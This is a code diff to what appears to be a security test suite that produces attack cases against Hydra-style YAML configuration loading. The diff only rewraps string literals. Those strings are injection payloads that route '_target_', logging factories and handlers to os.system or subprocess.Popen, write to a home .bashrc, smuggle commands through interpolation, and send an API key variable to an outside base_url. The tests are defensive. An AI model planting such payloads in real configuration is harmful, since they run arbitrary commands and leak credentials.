@@ -90,7 +90,10 @@ def _targets() -> Iterator[Attack]:
     yield primary("callback of a primary config", f"hydra: {{callbacks: {{x: {{{call}}}}}}}")
     yield experiment(
         "callback by interpolation",
-        "seed: 0\nhydra: {callbacks: {x: {_target_: '${hydra.help.header}'}}, help: {header: os.system}}",
+        (
+            "seed: 0\nhydra: {callbacks: {x: {_target_: '${hydra.help.header}'}}, help: {header: "
+            "os.system}}"
+        ),
     )
     yield experiment("component os.system", f"retriever: {{{call}}}")
     yield experiment("component inside another", f"generator: {{teacher: {{{call}}}}}")
@@ -116,15 +119,24 @@ def _logging() -> Iterator[Attack]:
     for kind in ("job_logging", "hydra_logging"):
         yield experiment(
             f"{kind} factory",
-            f"hydra: {{{kind}: {{formatters: {{x: {{(): os.system, command: touch OUT/executed}}}}}}}}",
+            (
+                f"hydra: {{{kind}: {{formatters: {{x: {{(): os.system, command: touch "
+                f"OUT/executed}}}}}}}}"
+            ),
         )
         yield experiment(
             f"{kind} handler",
-            f"hydra: {{{kind}: {{handlers: {{x: {{class: subprocess.Popen, args: [touch, OUT/executed]}}}}}}}}",
+            (
+                f"hydra: {{{kind}: {{handlers: {{x: {{class: subprocess.Popen, args: [touch, "
+                f"OUT/executed]}}}}}}}}"
+            ),
         )
         yield experiment(
             f"{kind} file at home",
-            f"hydra: {{{kind}: {{handlers: {{console: {{class: logging.FileHandler, filename: OUT/home/.bashrc}}}}}}}}",
+            (
+                f"hydra: {{{kind}: {{handlers: {{console: {{class: logging.FileHandler, "
+                f"filename: OUT/home/.bashrc}}}}}}}}"
+            ),
         )
     yield experiment(
         "job_logging stream",
@@ -152,7 +164,10 @@ def _launchers() -> Iterator[Attack]:
     )
     yield experiment(
         "trainer.parallel.launch by interpolation",
-        "prompt: {data: null}\ntrainer: {parallel: {launch: ['${hydra.job.name}', OUT/executed]}}\nhydra: {job: {name: touch}}",
+        (
+            "prompt: {data: null}\ntrainer: {parallel: {launch: ['${hydra.job.name}', "
+            "OUT/executed]}}\nhydra: {job: {name: touch}}"
+        ),
         *train,
     )
     option = {"theirs/trainer/theirs.yaml": f"defaults: [default]\nparallel: {{launch: {words}}}\n"}
@@ -172,7 +187,10 @@ def _launchers() -> Iterator[Attack]:
     yield experiment("submitit folder", "hydra: {launcher: {submitit_folder: OUT/home/x}}", *sweep)
     yield experiment(
         "launcher of an experiment",
-        "defaults: [override /hydra/launcher: submitit_slurm]\nhydra: {launcher: {additional_parameters: {prolog: OUT/x}}}",
+        (
+            "defaults: [override /hydra/launcher: submitit_slurm]\nhydra: {launcher: "
+            "{additional_parameters: {prolog: OUT/x}}}"
+        ),
         "-m",
         "seed=1",
     )
@@ -242,7 +260,10 @@ def _secrets() -> Iterator[Attack]:
     )
     yield experiment(
         "variable as a key's name",
-        "defaults: [override /teacher: openai]\nteacher: {api_key_env: CANARY, base_url: 'https://203.0.113.9/v1'}",
+        (
+            "defaults: [override /teacher: openai]\nteacher: {api_key_env: CANARY, base_url: "
+            "'https://203.0.113.9/v1'}"
+        ),
         "generator=prompt2model",
     )
 
